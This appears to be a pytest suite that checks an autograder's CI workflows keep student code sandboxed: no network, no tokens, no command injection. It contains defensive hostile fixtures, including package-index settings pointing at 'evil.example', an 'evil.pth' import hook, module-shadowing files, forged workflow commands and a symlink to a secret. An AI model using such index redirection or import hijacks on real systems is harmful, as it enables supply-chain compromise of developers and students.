"""The examples for CI: no token where student code runs, nothing of a pull request run outside of the container.

What can be run without GitHub is run: the shell of the steps, and Classroom 50's autograder.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
import venv
from pathlib import Path
from shlex import quote
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest
import yaml

from grader.course.folder import Course
from grader.releasing.release import make_release, write_releases

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

if sys.platform == "win32":
    pytest.skip("GitHub's runners of these examples are Linux", allow_module_level=True)

ROOT = Path(__file__).resolve().parents[2]
COURSE = ROOT / "tests/another_course"
SHELL = ("bash", "--noprofile", "--norc", "-eo", "pipefail", "-c")
"""As GitHub runs a step."""


@pytest.fixture(scope="module")
def workflow() -> dict[str, Any]:
    """Return the workflow that grades pull requests. YAML reads its key `on` as true."""
    loaded: dict[Any, Any] = yaml.safe_load((ROOT / "docs/workflows/grade-pull-requests.yml").read_text("utf-8"))
    return {"on" if key is True else key: value for key, value in loaded.items()}


def step(workflow: Mapping[str, Any], job: str, name: str) -> dict[str, Any]:
    found: dict[str, Any] = next(one for one in workflow["jobs"][job]["steps"] if one.get("name") == name)
    return found


def run(script: str, folder: Path, **environment: str) -> subprocess.CompletedProcess[str]:
    path = os.pathsep.join((str(folder / "bin"), str(Path(sys.executable).parent), os.environ["PATH"]))
    return subprocess.run(
        [*SHELL, script],
        cwd=folder,
        env={"PATH": path, "LANG": "en_US.UTF-8", **environment},
        capture_output=True,
        text=True,
        check=False,
    )


# What it may ------------------------------------------------------------------------------------------------------


def test_it_is_taken_from_the_base_branch_and_asks_for_no_right_but_to_read(workflow: Mapping[str, Any]) -> None:
    assert set(workflow["on"]) == {"pull_request_target"}
    assert workflow["permissions"] == {}
    assert {name: job["permissions"] for name, job in workflow["jobs"].items()} == {
        "grade": {"contents": "read"},
        "report": {},
    }


def test_no_checkout_leaves_its_token_behind(workflow: Mapping[str, Any]) -> None:
    checkouts = [
        one["with"]
        for job in workflow["jobs"].values()
        for one in job["steps"]
        if one.get("uses", "").startswith("actions/checkout@")
    ]
    assert len(checkouts) == 3
    assert all(one["persist-credentials"] is False for one in checkouts)


def test_no_script_has_an_expression_and_none_a_secret(workflow: Mapping[str, Any]) -> None:
    """What a student chose, such as the name of a branch, would be run as shell where it stood in one."""
    for job in workflow["jobs"].values():
        for one in job["steps"]:
            assert "${{" not in one.get("run", "")
            assert not re.search(r"secrets\.|github\.token", json.dumps(one.get("env", {})))
        assert "env" not in job
    assert workflow["env"] == {"LAB": "lab02"}


def test_the_container_has_no_network_no_right_no_environment_and_two_folders(workflow: Mapping[str, Any]) -> None:
    script = step(workflow, "grade", "Grade in a container without network, token or environment")["run"]
    [command] = [line for line in script.replace("\\\n", " ").splitlines() if line.startswith("docker run")]
    for words in ("--network none", "--read-only", "--cap-drop ALL", "--security-opt no-new-privileges"):
        assert words in command
    assert re.findall(r"--volume \S+", command) == [
        '--volume "$PWD/submissions:/submissions:ro"',
        '--volume "$PWD/results:/results"',
    ]
    assert not re.search(r"--env|\s-e\s|--privileged|docker\.sock|--pid[ =]|--ipc|--userns", command)


def test_student_code_runs_in_no_other_place(workflow: Mapping[str, Any]) -> None:
    for job in workflow["jobs"].values():
        for one in job["steps"]:
            script = one.get("run", "")
            assert not re.search(r"\bpip install.*handed-in|handed-in/(?!\$LAB\.ipynb)", script)
            if "handed-in" in script:
                assert one["name"] == "Take the notebook alone"
    assert "handed-in" not in json.dumps(workflow["jobs"]["report"])


def test_the_image_runs_as_nobody() -> None:
    lines = (ROOT / "docs/workflows/Dockerfile").read_text("utf-8").splitlines()
    assert "USER 65534:65534" in lines
    assert 'ENTRYPOINT ["grade"]' in lines


# What its steps do ----------------------------------------------------------------------------------------------------


@pytest.mark.kernel
def test_the_notebook_alone_is_taken_and_a_link_stays_a_link(workflow: Mapping[str, Any], tmp_path: Path) -> None:
    script = step(workflow, "grade", "Take the notebook alone")["run"]
    (tmp_path / "handed-in/.github").mkdir(parents=True)
    (tmp_path / "handed-in/setup.py").write_text("raise SystemExit", "utf-8")
    (tmp_path / "answers.py").write_text("secret", "utf-8")
    (tmp_path / "handed-in/lab02.ipynb").symlink_to("../answers.py")
    done = run(script, tmp_path, LAB="lab02", STUDENT="s001")
    assert done.returncode == 0, done.stderr
    assert [
        path.relative_to(tmp_path / "submissions").as_posix() for path in (tmp_path / "submissions").rglob("*")
    ] == [
        *("s001", "s001/lab02.ipynb"),
    ]
    assert (tmp_path / "submissions/s001/lab02.ipynb").is_symlink()


@pytest.mark.kernel
@pytest.mark.parametrize("status", [0, 2, 3])
def test_what_the_grading_prints_is_no_command_and_its_status_is_the_steps(
    workflow: Mapping[str, Any], tmp_path: Path, status: int
) -> None:
    script = step(workflow, "grade", "Grade in a container without network, token or environment")["run"]
    (tmp_path / "bin").mkdir()
    docker = tmp_path / "bin/docker"
    docker.write_text(f'#!/bin/sh\necho "::error::forged"\necho "::$token::"\nexit {status}\n', "utf-8")
    docker.chmod(0o755)
    done = run(script, tmp_path, LAB="lab02")
    assert done.returncode == status
    first, forged, guess, last = done.stdout.splitlines()
    token = first.removeprefix("::stop-commands::")
    assert re.fullmatch("[0-9a-f]{64}", token)
    assert (forged, guess, last) == ("::error::forged", "::::", f"::{token}::")


@pytest.fixture
def graded(notebook: Callable[..., Path], tmp_path: Path) -> Path:
    """Return a folder in which a submission has been graded, with what it raises made to look like a command."""
    forged = "def double(x):\n    raise ValueError('\\n::error file=x::forged\\n')"
    notebook(forged, "print('::error::printed')", name="warmup", folder=tmp_path / "submissions/s001")
    course = ROOT / "tests/another_course"
    words = ("warmup", tmp_path / "submissions", "--course", course, "--output", tmp_path / "records", "--lang", "en")
    grade = Path(sys.executable).with_name("grade")
    subprocess.run([str(grade), *map(str, words)], check=True, capture_output=True)
    return tmp_path


@pytest.mark.kernel
def test_the_report_is_made_of_the_records_and_has_no_command_but_its_own(
    workflow: Mapping[str, Any], graded: Path
) -> None:
    summary = graded / "summary.md"
    summary.write_text("before\n", "utf-8")
    script = step(workflow, "report", "Show annotations and the summary")["run"]
    done = run(script, graded, GITHUB_STEP_SUMMARY=str(summary))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert all(re.match("::(error|notice) (file=warmup.ipynb,)?title=", line) for line in lines)
    assert any("forged" in line for line in lines)
    assert summary.read_text("utf-8").startswith("before\n## ` warmup `\n")


# Classroom 50 ---------------------------------------------------------------------------------------------------------

STAMPS = {
    "CLASSROOM": "dl",
    "ASSIGNMENT": "warmup",
    "ASSIGNMENT_TYPE": "individual",
    "OWNER": "s001",
    "SUBMISSION_TAG": "submit/2026-01-01T00-00-00Z-abc1234",
    "COMMIT_URL": "https://example.org/commit",
    "RELEASE_URL": "https://example.org/release",
    "REVIEW_URL": "https://example.org/review",
}


MODULES = (
    *("pip", "numpy", "yaml", "sitecustomize", "usercustomize", "conftest", "grader", "click", "json", "importlib"),
    *("pydantic", "encodings", "setuptools", "hatchling", "stat"),
)
SETTINGS = {
    "evil.pth": "import evil",
    "pyproject.toml": "[build-system]\nrequires = ['evil']\n[tool.uv]\nindex-url = 'http://evil.example'",
    "uv.toml": "index-url = 'http://evil.example'",
    "pip.conf": "[global]\nindex-url = http://evil.example",
    "setup.cfg": "[easy_install]\nindex_url = http://evil.example",
    ".env": "PYTHONPATH=.\nPYTHONSTARTUP=evil.py\nPATH=.",
    "rubrics/warmup.yaml": "evil",
    "rubrics/lab02.yaml": "evil",
}


@pytest.fixture
def hostile(notebook: Callable[..., Path], tmp_path: Path) -> Path:
    """Return a student's folder in which everything that some program may pick up leaves the file `marker`."""
    folder, marker = tmp_path / "checkout", tmp_path / "marker"
    notebook("def double(x):\n    return 2 * x", name="warmup", folder=folder)
    act = f"open({str(marker)!r}, 'a').write(__name__)\n"
    for name in (*MODULES, "evil", "setup", "manage", "reference/warmup", "reference/lab02", "pip/__main__"):
        (folder / f"{name}.py").parent.mkdir(parents=True, exist_ok=True)
        (folder / f"{name}.py").write_text(act, "utf-8")
    for name, content in SETTINGS.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content, "utf-8")
    for name in ("grade", "python", "python3", "pip", "cp", "mkdir"):
        if not (folder / name).is_dir():
            (folder / name).write_text(f"#!/bin/sh\necho {name} >> {marker}\n", "utf-8")
            (folder / name).chmod(0o755)
    return folder


@pytest.fixture
def without_grader(tmp_path: Path) -> Path:
    """Return a Python without a grader; its own `pip` notes where it is started, and installs this one's packages."""
    venv.create(tmp_path / "fresh", with_pip=False, symlinks=True)
    packages = Path(sysconfig.get_path("purelib", vars={"base": str(tmp_path / "fresh")}))
    (packages / "pip").mkdir()
    (packages / "pip/__init__.py").write_text("", "utf-8")
    paths = "\n".join([sysconfig.get_path("purelib"), str(ROOT)])
    (packages / "pip/__main__.py").write_text(
        "import os\n"
        f"open({str(tmp_path / 'installed_in')!r}, 'w').write(os.getcwd())\n"
        f"open({str(packages / 'here.pth')!r}, 'w').write({paths!r})\n",
        "utf-8",
    )
    return tmp_path / "fresh/bin/python"


@pytest.fixture
def autograder(tmp_path: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
    """Return a run of the autograder in a student's checkout, as it is bundled: the lab's kit beside it."""
    bundle = tmp_path / "bundle"
    write_releases([make_release(Course(ROOT / "tests/another_course"), "warmup")], bundle, as_zip=False)
    shutil.copy(ROOT / "docs/workflows/classroom50-autograder.py", bundle / "autograder.py")

    def grade(checkout: Path, python: Path | str = sys.executable) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(python), str(bundle / "autograder.py")],
            cwd=checkout,
            env={"PATH": os.environ["PATH"], **STAMPS},
            capture_output=True,
            text=True,
            check=False,
        )

    return grade


@pytest.mark.kernel
def test_classroom_50_gets_a_result_of_its_schema_stamped_with_whose_it_is(
    autograder: Callable[..., subprocess.CompletedProcess[str]], notebook: Callable[..., Path], tmp_path: Path
) -> None:
    checkout = notebook("def double(x):\n    return 2 * x", name="warmup", folder=tmp_path / "checkout").parent
    done = autograder(checkout)
    assert done.returncode == 0, done.stderr
    result = json.loads((checkout / "result.json").read_text("utf-8"))
    schema = json.loads((ROOT / "tests/grader/reports/schemas/classroom50.schema.json").read_text("utf-8"))
    jsonschema.validate(result, schema)
    assert (result["score"], result["max-score"]) == (75, 100)
    assert (result["owner"], result["classroom"], result["commit"]) == ("s001", "dl", "https://example.org/commit")
    assert "-" not in {value for value in result.values() if isinstance(value, str)}


@pytest.mark.kernel
@pytest.mark.parametrize("what", ["nothing", "no notebook", "a link", "a folder", "a pipe"])
def test_classroom_50_gets_an_error_and_no_zero_for_what_is_not_graded(
    autograder: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path, what: str
) -> None:
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    if what == "no notebook":
        (checkout / "warmup.ipynb").write_text("{", "utf-8")
    elif what == "a link":
        (checkout / "warmup.ipynb").symlink_to(ROOT / "tests/another_course/labs/warmup.ipynb")
    elif what == "a folder":
        (checkout / "warmup.ipynb").mkdir()
    elif what == "a pipe":
        os.mkfifo(checkout / "warmup.ipynb")
    done = autograder(checkout)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert not (checkout / "result.json").exists()


@pytest.mark.kernel
def test_classroom_50_installs_and_grades_in_a_hostile_checkout_and_runs_nothing_of_it(
    autograder: Callable[..., subprocess.CompletedProcess[str]], hostile: Path, without_grader: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text("{}", "utf-8")
    (hostile / "result.json").symlink_to(secret)
    done = autograder(hostile, without_grader)
    assert not (tmp_path / "marker").exists(), (tmp_path / "marker").read_text("utf-8")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "installed_in").read_text("utf-8") == str(tmp_path / "bundle")
    assert secret.read_text("utf-8") == "{}"
    assert json.loads((hostile / "result.json").read_text("utf-8"))["score"] == 75


@pytest.mark.kernel
def test_a_result_that_a_student_left_is_no_result(
    autograder: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path
) -> None:
    checkout = tmp_path / "checkout"
    (checkout / "warmup.ipynb").mkdir(parents=True)
    (checkout / "result.json").write_text('{"score": 100}', "utf-8")
    assert autograder(checkout).returncode == 2
    assert not (checkout / "result.json").exists()


# Containers -----------------------------------------------------------------------------------------------------------


def snippets() -> Mapping[str, str]:
    """Return the lines of docs/ci.md that grade in a container, by their format."""
    text = (ROOT / "docs/ci.md").read_text("utf-8").partition("## PrairieLearn and Coursera")[2]
    return {line.rpartition("--format ")[2]: line.strip(" -") for line in text.splitlines() if "grade lab02 " in line}


@pytest.mark.kernel
@pytest.mark.parametrize("name", ["prairielearn", "coursera", "junit"])
def test_a_container_grades_in_a_students_folder_and_runs_nothing_of_it(
    hostile: Path, tmp_path: Path, name: str
) -> None:
    line = snippets()[name].replace("lab02", "warmup").replace("--course /course", f"--course {quote(str(COURSE))}")
    for folder in ("/grade/student", "/shared/submission"):
        line = line.replace(folder, str(hostile))
    line = line.replace("submissions/", str(tmp_path / "in")).replace("/tmp/records", str(tmp_path / "out"))  # noqa: S108
    (tmp_path / "in").mkdir()
    shutil.copy(hostile / "warmup.ipynb", tmp_path / "in/s001.ipynb")
    done = run(line, hostile)
    assert done.returncode in {0, 1}, done.stderr
    assert not (tmp_path / "marker").exists(), (tmp_path / "marker").read_text("utf-8")
    assert list((tmp_path / "out").glob(f"*{name}*")) or (hostile / f"results/class.{name}.xml").exists()


def test_no_script_that_is_shipped_starts_python_where_it_would_take_modules_from_the_current_folder() -> None:
    scripts = [*(ROOT / "docs/workflows").glob("*.*"), *(ROOT / "grader/exporting/templates").iterdir()]
    assert len(scripts) >= 4
    for script in scripts:
        for line in script.read_text("utf-8").splitlines():
            started = re.search(r'(python"?|sys\.executable,) "?-(?!P|I)\S+', line)
            assert started is None, (script.name, line)
